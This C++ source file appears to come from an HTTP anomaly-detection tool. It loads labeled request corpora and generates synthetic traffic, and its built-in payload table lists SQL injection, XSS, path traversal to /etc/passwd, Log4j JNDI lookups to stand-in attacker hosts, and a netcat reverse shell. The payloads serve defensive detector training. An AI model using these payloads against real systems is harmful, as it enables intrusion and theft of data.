#include "radar/datasets.hpp"

#include <algorithm>
#include <cmath>
#include <random>
#include <sstream>

#include "radar/canonicalize.hpp"
#include "radar/io.hpp"

namespace radar {

namespace {

namespace fs = std::filesystem;

bool looks_like_request_line(std::string_view line) {
    std::size_t sp = line.find(' ');
    if (sp == std::string_view::npos || sp == 0 || sp > 12) {
        return false;
    }
    for (char c : line.substr(0, sp)) {
        if (!((c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z'))) {
            return false;
        }
    }
    return line.find(" HTTP/") != std::string_view::npos;
}

// Slices a text file of concatenated raw requests into blocks, starting
// a new block at every request-line-looking line. Bodies that themselves
// contain such a line would be split too; the public corpora do not do
// this.
std::vector<std::string> slice_request_blocks(const std::string& text) {
    std::vector<std::string> blocks;
    std::string current;
    std::istringstream in(text);
    std::string line;
    while (std::getline(in, line)) {
        std::string_view trimmed = line;
        if (!trimmed.empty() && trimmed.back() == '\r') {
            trimmed.remove_suffix(1);
        }
        if (looks_like_request_line(trimmed) && !current.empty()) {
            blocks.push_back(std::move(current));
            current.clear();
        }
        if (current.empty() && trimmed.empty()) {
            continue;  // separator blank lines between blocks
        }
        current += line;
        current.push_back('\n');
    }
    if (!current.empty()) {
        blocks.push_back(std::move(current));
    }
    // A block whose header section runs to EOF gets its terminator back;
    // such blocks cannot carry a body.
    for (std::string& b : blocks) {
        if (b.find("\n\n") == std::string::npos &&
            b.find("\n\r\n") == std::string::npos) {
            b += "\n";
        }
    }
    return blocks;
}

std::vector<fs::path> sorted_files(const fs::path& dir) {
    std::vector<fs::path> files;
    for (const auto& entry : fs::directory_iterator(dir)) {
        if (entry.is_regular_file()) {
            files.push_back(entry.path());
        }
    }
    std::sort(files.begin(), files.end());
    return files;
}

bool name_says_anomaly(const fs::path& p) {
    std::string name = to_lower(p.filename().string());
    return name.find("anom") != std::string::npos ||
           name.find("abnormal") != std::string::npos ||
           name.find("attack") != std::string::npos;
}

void ingest_block(std::string&& raw, Label label, const std::string& source,
                  std::vector<LabeledRequest>& out, LoadReport& report) {
    try {
        RawHttpRequest req = parse_raw_request(raw);
        try {
            Endpoint ep = extract_endpoint(req);
            ++report.endpoint_histogram[ep];
        } catch (const MissingHost&) {
            // still loadable; the detector will flag it
        }
        out.push_back({std::move(raw), label, source});
        ++report.loaded;
    } catch (const MalformedRequest&) {
        ++report.skipped;
    }
}

void load_csic_file(const fs::path& file, Label label,
                    std::vector<LabeledRequest>& out, LoadReport& report) {
    std::string text = read_file(file);
    for (std::string& block : slice_request_blocks(text)) {
        ingest_block(std::move(block), label, file.filename().string(), out,
                     report);
    }
}

void load_csic(const fs::path& path, std::vector<LabeledRequest>& out,
               LoadReport& report) {
    if (fs::is_regular_file(path)) {
        load_csic_file(path, name_says_anomaly(path) ? Label::anomaly
                                                     : Label::normal,
                       out, report);
        return;
    }
    if (!fs::is_directory(path)) {
        throw UnreadablePath(path.string() + " does not exist");
    }
    const fs::path normal_dir = path / "normal";
    const fs::path anomalous_dir = path / "anomalous";
    if (fs::is_directory(normal_dir) || fs::is_directory(anomalous_dir)) {
        if (fs::is_directory(normal_dir)) {
            for (const fs::path& f : sorted_files(normal_dir)) {
                load_csic_file(f, Label::normal, out, report);
            }
        }
        if (fs::is_directory(anomalous_dir)) {
            for (const fs::path& f : sorted_files(anomalous_dir)) {
                load_csic_file(f, Label::anomaly, out, report);
            }
        }
        return;
    }
    // Flat layout: label by file name (normalTrafficTraining.txt,
    // anomalousTrafficTest.txt, ...).
    for (const fs::path& f : sorted_files(path)) {
        load_csic_file(f, name_says_anomaly(f) ? Label::anomaly : Label::normal,
                       out, report);
    }
}

void load_atrdf(const fs::path& path, std::vector<LabeledRequest>& out,
                LoadReport& report) {
    if (!fs::is_directory(path)) {
        throw UnreadablePath(path.string() + " is not a directory");
    }
    const fs::path manifest = path / "labels.tsv";
    std::string text = read_file(manifest);
    std::istringstream in(text);
    std::string line;
    int line_no = 0;
    while (std::getline(in, line)) {
        ++line_no;
        if (!line.empty() && line.back() == '\r') {
            line.pop_back();
        }
        if (line.empty() || line[0] == '#') {
            continue;
        }
        std::size_t tab = line.find('\t');
        if (tab == std::string::npos) {
            throw UnknownFormat(manifest.string() + ":" +
                                std::to_string(line_no) +
                                ": expected 'filename<TAB>label'");
        }
        std::string file = line.substr(0, tab);
        std::string label_name = to_lower(line.substr(tab + 1));
        Label label;
        if (label_name == "normal") {
            label = Label::normal;
        } else if (label_name == "anomaly" || label_name == "abnormal") {
            label = Label::anomaly;
        } else {
            throw UnknownFormat(manifest.string() + ":" +
                                std::to_string(line_no) + ": unknown label '" +
                                label_name + "'");
        }
        ingest_block(read_file(path / file), label, file, out, report);
    }
}

void load_container_file(const fs::path& file, Label label,
                         std::vector<LabeledRequest>& out, LoadReport& report) {
    std::string bytes = read_file(file);
    for (std::string& raw : read_request_container(bytes)) {
        ingest_block(std::move(raw), label, file.filename().string(), out,
                     report);
    }
}

void load_container(const fs::path& path, std::vector<LabeledRequest>& out,
                    LoadReport& report) {
    if (fs::is_regular_file(path)) {
        load_container_file(path, Label::normal, out, report);
        return;
    }
    if (!fs::is_directory(path)) {
        throw UnreadablePath(path.string() + " does not exist");
    }
    const fs::path normal_dir = path / "normal";
    const fs::path anomalous_dir = path / "anomalous";
    if (fs::is_directory(normal_dir)) {
        for (const fs::path& f : sorted_files(normal_dir)) {
            load_container_file(f, Label::normal, out, report);
        }
    }
    if (fs::is_directory(anomalous_dir)) {
        for (const fs::path& f : sorted_files(anomalous_dir)) {
            load_container_file(f, Label::anomaly, out, report);
        }
    }
}

struct Rng {
    explicit Rng(std::uint64_t seed) : gen(seed) {}
    std::mt19937_64 gen;
    std::uint32_t below(std::uint32_t n) {
        return static_cast<std::uint32_t>(gen() % n);
    }
};

std::string url_encode(std::string_view s) {
    static constexpr char hex[] = "0123456789abcdef";
    std::string out;
    for (char c : s) {
        const bool safe = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                          (c >= '0' && c <= '9') || c == '-' || c == '_' ||
                          c == '.';
        if (safe) {
            out.push_back(c);
        } else if (c == ' ') {
            out.push_back('+');
        } else {
            unsigned char u = static_cast<unsigned char>(c);
            out.push_back('%');
            out.push_back(hex[u >> 4]);
            out.push_back(hex[u & 0xf]);
        }
    }
    return out;
}

constexpr std::string_view kBuiltinPayloads =
    "payloads-version: 1\n"
    "# class<TAB>payload\n"
    "sqli\t' or 1=1 --\n"
    "sqli\t' union select username, password from users --\n"
    "sqli\t1'; drop table orders; --\n"
    "sqli\tadmin'--\n"
    "xss\t<script>alert(1)</script>\n"
    "xss\t\"><img src=x onerror=alert(document.cookie)>\n"
    "xss\t<svg/onload=confirm('xss')>\n"
    "traversal\t../../../../etc/passwd\n"
    "traversal\t..\\..\\..\\windows\\win.ini\n"
    "traversal\t....//....//etc/shadow\n"
    "log4j\t${jndi:ldap://evil.example.com/a}\n"
    "log4j\t${jndi:rmi://attacker.example.net/x}\n"
    "rce\t; cat /etc/passwd\n"
    "rce\t| nc attacker.example 4444 -e /bin/sh\n"
    "cookie-injection\tsessionid=0; admin=true\n"
    "log-forging\tuser%0d%0a127.0.0.1 admin login ok\n";

std::vector<PayloadEntry> parse_payload_table(std::string_view text,
                                              const std::string& origin) {
    std::istringstream in{std::string(text)};
    std::string line;
    std::vector<PayloadEntry> table;
    bool have_version = false;
    int line_no = 0;
    while (std::getline(in, line)) {
        ++line_no;
        if (!line.empty() && line.back() == '\r') {
            line.pop_back();
        }
        if (line.empty() || line[0] == '#') {
            continue;
        }
        if (!have_version) {
            if (line.rfind("payloads-version:", 0) != 0) {
                throw UnknownFormat(origin + ": expected 'payloads-version: N'");
            }
            have_version = true;
            continue;
        }
        std::size_t tab = line.find('\t');
        if (tab == std::string::npos || tab == 0 || tab + 1 >= line.size()) {
            throw UnknownFormat(origin + ":" + std::to_string(line_no) +
                                ": expected 'class<TAB>payload'");
        }
        table.push_back({line.substr(0, tab), line.substr(tab + 1)});
    }
    if (table.empty()) {
        throw UnknownFormat(origin + ": payload table is empty");
    }
    return table;
}

struct ParamSpec {
    const char* name;
    enum Kind { word, number, email, date } kind;
};

struct EndpointTemplate {
    const char* method;
    const char* path;
    bool body;  // params in a form body instead of the query string
    std::vector<ParamSpec> params;
};

const std::vector<EndpointTemplate>& endpoint_templates() {
    static const std::vector<EndpointTemplate> templates = {
        {"GET", "/api/users", false,
         {{"id", ParamSpec::number}, {"view", ParamSpec::word}}},
        {"POST", "/api/login", true,
         {{"user", ParamSpec::word}, {"email", ParamSpec::email}}},
        {"GET", "/api/products/search", false,
         {{"q", ParamSpec::word}, {"page", ParamSpec::number}}},
        {"POST", "/api/cart/add", true,
         {{"item", ParamSpec::number}, {"qty", ParamSpec::number}}},
        {"GET", "/api/orders", false,
         {{"status", ParamSpec::word}, {"since", ParamSpec::date}}},
        {"PUT", "/api/profile", true,
         {{"name", ParamSpec::word}, {"email", ParamSpec::email}}},
        {"GET", "/api/reports/daily", false,
         {{"date", ParamSpec::date}, {"format", ParamSpec::word}}},
        {"POST", "/api/feedback", true,
         {{"rating", ParamSpec::number}, {"comment", ParamSpec::word}}},
    };
    return templates;
}

const std::vector<std::string>& value_words() {
    static const std::vector<std::string> words = {
        "alpha",  "bravo", "charlie", "delta",  "echo",   "foxtrot",
        "golf",   "hotel", "india",   "juliet", "widget", "gadget",
        "carton", "blue",  "green",   "amber",  "large",  "compact"};
    return words;
}

std::string param_value(ParamSpec::Kind kind, Rng& rng) {
    const auto& words = value_words();
    switch (kind) {
        case ParamSpec::word:
            return words[rng.below(static_cast<std::uint32_t>(words.size()))];
        case ParamSpec::number:
            return std::to_string(rng.below(10000));
        case ParamSpec::email:
            return words[rng.below(static_cast<std::uint32_t>(words.size()))] +
                   std::to_string(rng.below(100)) + "@example.com";
        case ParamSpec::date:
            return "2024-" + std::to_string(1 + rng.below(12)) + "-" +
                   std::to_string(1 + rng.below(28));
    }
    return "value";
}

// Payloads are injected literally so the raw request contains the
// payload-table string; only framing-breaking CR/LF get escaped.
std::string escape_crlf(std::string_view s) {
    std::string out;
    for (char c : s) {
        if (c == '\r') {
            out += "%0d";
        } else if (c == '\n') {
            out += "%0a";
        } else {
            out.push_back(c);
        }
    }
    return out;
}

std::string render_request(const EndpointTemplate& tmpl,
                           const std::string& path,
                           const std::vector<std::string>& values, Rng& rng) {
    std::string params;
    for (std::size_t i = 0; i < tmpl.params.size(); ++i) {
        if (i) {
            params.push_back('&');
        }
        params += tmpl.params[i].name;
        params.push_back('=');
        params += values[i];
    }
    std::string target = path;
    std::string body;
    if (tmpl.body) {
        body = params;
    } else if (!params.empty()) {
        target += "?" + params;
    }
    std::string out;
    out += tmpl.method;
    out += " " + target + " HTTP/1.1\r\n";
    out += "Host: api.example.test\r\n";
    out += "User-Agent: client/" + std::to_string(1 + rng.below(3)) + "." +
           std::to_string(rng.below(10)) + "\r\n";
    out += "Accept: application/json\r\n";
    out += "Connection: close\r\n";
    if (tmpl.body) {
        out += "Content-Type: application/x-www-form-urlencoded\r\n";
        out += "Content-Length: " + std::to_string(body.size()) + "\r\n";
    }
    out += "\r\n";
    out += body;
    return out;
}

}  // namespace

CorpusFormat corpus_format_from_name(std::string_view name) {
    if (name == "csic") {
        return CorpusFormat::csic;
    }
    if (name == "atrdf") {
        return CorpusFormat::atrdf;
    }
    if (name == "container") {
        return CorpusFormat::container;
    }
    throw UnknownFormat("unknown corpus format '" + std::string(name) + "'");
}

std::vector<LabeledRequest> load_corpus(const std::filesystem::path& path,
                                        CorpusFormat format,
                                        LoadReport* report) {
    LoadReport local;
    LoadReport& rep = report ? *report : local;
    std::vector<LabeledRequest> out;
    switch (format) {
        case CorpusFormat::csic:
            load_csic(path, out, rep);
            break;
        case CorpusFormat::atrdf:
            load_atrdf(path, out, rep);
            break;
        case CorpusFormat::container:
            load_container(path, out, rep);
            break;
    }
    return out;
}

CorpusSplit split(const std::vector<LabeledRequest>& corpus,
                  const SplitSpec& spec) {
    double fraction = spec.train_fraction;
    switch (spec.mode) {
        case SplitSpec::Mode::csic_half:
            fraction = 0.5;
            break;
        case SplitSpec::Mode::atrdf_80_20:
            fraction = 0.8;
            break;
        case SplitSpec::Mode::fraction:
            break;
    }
    if (fraction < 0.0 || fraction > 1.0) {
        throw std::invalid_argument("train_fraction must be in [0, 1]");
    }

    std::vector<std::size_t> normals;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
        if (corpus[i].label == Label::normal) {
            normals.push_back(i);
        }
    }
    const std::size_t n_train = static_cast<std::size_t>(std::floor(
        fraction * static_cast<double>(normals.size()) + 1e-9));
    if (n_train == 0) {
        throw InsufficientNormals("train split would be empty (" +
                                  std::to_string(normals.size()) +
                                  " normal requests)");
    }

    Rng rng(spec.seed);
    std::vector<std::size_t> order = normals;
    for (std::size_t i = order.size(); i > 1; --i) {
        std::swap(order[i - 1],
                  order[rng.below(static_cast<std::uint32_t>(i))]);
    }
    std::vector<char> in_train(corpus.size(), 0);
    for (std::size_t i = 0; i < n_train; ++i) {
        in_train[order[i]] = 1;
    }

    CorpusSplit out;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
        (in_train[i] ? out.train : out.test).push_back(corpus[i]);
    }
    return out;
}

std::vector<PayloadEntry> builtin_payload_table() {
    return parse_payload_table(kBuiltinPayloads, "<builtin>");
}

std::vector<PayloadEntry> load_payload_table(
    const std::filesystem::path& path) {
    return parse_payload_table(read_file(path), path.string());
}

std::vector<LabeledRequest> generate_synthetic(std::uint64_t seed,
                                               int endpoints,
                                               int normals_per_endpoint,
                                               int anomalies_per_endpoint) {
    if (endpoints < 1 || normals_per_endpoint < 0 ||
        anomalies_per_endpoint < 0) {
        throw std::invalid_argument("generate_synthetic: bad shape arguments");
    }
    const auto& templates = endpoint_templates();
    const std::vector<PayloadEntry> payloads = builtin_payload_table();
    Rng rng(seed);
    std::vector<LabeledRequest> out;
    out.reserve(static_cast<std::size_t>(endpoints) *
                static_cast<std::size_t>(normals_per_endpoint +
                                         anomalies_per_endpoint));

    for (int e = 0; e < endpoints; ++e) {
        const EndpointTemplate& tmpl =
            templates[static_cast<std::size_t>(e) % templates.size()];
        std::string path = tmpl.path;
        if (static_cast<std::size_t>(e) >= templates.size()) {
            path += "/v" + std::to_string(
                               static_cast<std::size_t>(e) / templates.size() + 1);
        }
        for (int n = 0; n < normals_per_endpoint; ++n) {
            std::vector<std::string> values;
            values.reserve(tmpl.params.size());
            for (const ParamSpec& p : tmpl.params) {
                values.push_back(url_encode(param_value(p.kind, rng)));
            }
            out.push_back(
                {render_request(tmpl, path, values, rng), Label::normal,
                 "synthetic"});
        }
        for (int a = 0; a < anomalies_per_endpoint; ++a) {
            std::vector<std::string> values;
            values.reserve(tmpl.params.size());
            for (const ParamSpec& p : tmpl.params) {
                values.push_back(url_encode(param_value(p.kind, rng)));
            }
            const PayloadEntry& payload = payloads[rng.below(
                static_cast<std::uint32_t>(payloads.size()))];
            values[rng.below(static_cast<std::uint32_t>(values.size()))] =
                escape_crlf(payload.payload);
            out.push_back(
                {render_request(tmpl, path, values, rng), Label::anomaly,
                 "synthetic"});
        }
    }
    return out;
}

}  // namespace radar
